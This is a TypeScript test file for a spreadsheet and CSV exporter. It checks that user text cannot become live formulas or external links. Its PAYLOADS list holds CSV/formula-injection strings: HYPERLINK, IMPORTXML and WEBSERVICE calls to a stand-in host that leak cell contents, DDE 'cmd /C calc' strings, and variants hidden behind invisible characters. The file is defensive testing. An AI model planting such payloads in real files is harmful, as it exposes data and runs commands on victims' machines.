import { describe, expect, test } from "vitest";
import { writeCsv } from "../../../electron/files/csv/write-csv.ts";
import { cleanText } from "../../../shared/sheet/clean-text.ts";
import { comparisonWorkbook } from "../../../shared/sheet/comparison-workbook.ts";
import { downloadName } from "../../../shared/sheet/download-name.ts";
import { CELL_KINDS, INKS, type Row } from "../../../shared/sheet/workbook.ts";
import { exportOf, FIVE, realPlan } from "../../shared/sheet/real-comparison.ts";
import { unguardText } from "../../shared/sheet/unguard-text.ts";
import { readCsv } from "./csv/read-csv.ts";
import { aWorkbook, partsOf, readBack, runsOf, written } from "./xlsx/read-workbook.ts";

/** What has been tried on spreadsheets: formulas, commands, links to the outside, each also behind what is not seen. */
const PAYLOADS = [
  "=1+1",
  '=HYPERLINK("http://evil.invalid/?"&A1,"点这里")',
  '=IMPORTXML("http://evil.invalid","//a")',
  '=WEBSERVICE("http://evil.invalid")',
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "＝1＋1",
  "＋1",
  "－1",
  "＠SUM(1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "\u3000=1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  "\u0000=1+1",
  "'=1+1",
  "''=1+1",
  '"=1+1',
  '=1+1","=2+2',
  "=1\r\n=2",
  "</t></is><f>1+1</f>",
  "]]><f>1+1</f>",
  "_x003D_1+1",
  "&#61;1+1",
];
const FORMULA = /^[\p{Zs}\p{Cf}]*[=+\-@＝＋－＠\t\r\n]/u;

const rowsOf = (payload: string): Row[] =>
  CELL_KINDS.flatMap((kind) =>
    INKS.map((ink) => ({ cells: [{ kind, runs: [{ text: payload, ink }] }], height: null })),
  );

describe.each(PAYLOADS)("the text %j", (payload) => {
  const clean = cleanText(payload).text;

  test("is text in every kind of cell of a workbook, and nothing that is reckoned", async () => {
    const { bytes, report } = written(
      aWorkbook(rowsOf(payload), { name: payload }, { title: payload, creator: payload }),
    );
    const parts = partsOf(bytes);
    for (const [name, xml] of parts) {
      expect(xml, name).not.toMatch(/<(?:f|externalReference|externalLink|ddeLink|oleLink)[\s>/]/u);
      expect(xml, name).not.toContain('TargetMode="External"');
    }
    const sheet = (await readBack(bytes)).worksheets[0];
    const read = rowsOf(payload).map((_, at) => {
      const cell = sheet?.getCell(at + 1, 1);
      return cell === undefined
        ? ""
        : runsOf(cell)
            .map(({ text }) => text)
            .join("");
    });
    // This reader leaves the format's escape of an underscore as it is where a cell has but one run.
    expect(new Set(read.map((text) => text.replace("_x005F_", "_")))).toEqual(new Set([clean]));
    const isDangerous = FORMULA.test(clean);
    expect(report.guarded).toBe(isDangerous ? read.length : 0);
    const styles = [...(parts.get("xl/styles.xml") ?? "").matchAll(/<xf [^>]*xfId="0"[^>]*>/gu)].map(([xf]) => xf);
    const used = [...(parts.get("xl/worksheets/sheet1.xml") ?? "").matchAll(/<c r="[^"]+" s="(\d+)"/gu)];
    for (const [, style] of used) {
      // The first is that of the styles themselves, from which the cells' are counted.
      expect(styles[Number(style)]?.includes('quotePrefix="1"')).toBe(isDangerous);
    }
  });

  test("begins no field of a CSV file, and is found in it", () => {
    const pieces = writeCsv(aWorkbook(rowsOf(payload)).sheets[0] ?? fail());
    let text = "";
    for (let next = pieces.next(); !next.done; next = pieces.next()) text += new TextDecoder().decode(next.value);
    const fields = readCsv(text).flat();
    expect(fields.length).toBeGreaterThan(50);
    for (const field of fields) expect(field).not.toMatch(FORMULA);
    // What only the base plan has is left out of formats that know no marks.
    expect(new Set(fields.map((field) => unguardText(field)))).toEqual(new Set([clean, ""]));
  });

  test("as the title of a plan is text wherever it gets to, and no part of a path in the file's name", async () => {
    const plan = realPlan(FIVE[3] ?? fail());
    const metadata = { ...plan.summary.metadata, title: payload, planTitle: payload, issuer: payload, place: payload };
    const [clause] = plan.clauses;
    const clauses = clause === undefined ? [] : [{ ...clause, title: payload, text: payload }];
    const what = exportOf([{ ...plan, clauses, summary: { ...plan.summary, metadata } }]);
    const layouts = ["comparison", "tasks", "units", "coverage", "clauses"] as const;
    const { bytes } = written(comparisonWorkbook(what, layouts));
    for (const [name, xml] of partsOf(bytes)) expect(xml, name).not.toMatch(/<f[\s>]/u);
    expect((await readBack(bytes)).worksheets.length).toBeGreaterThan(4);
    expect(downloadName(what, "xlsx")).toMatch(/^[^/\\:*?"<>|\p{Cc}]+\.xlsx$/u);
  });
});

function fail(): never {
  throw new Error("the fixture lacks what is asked for");
}
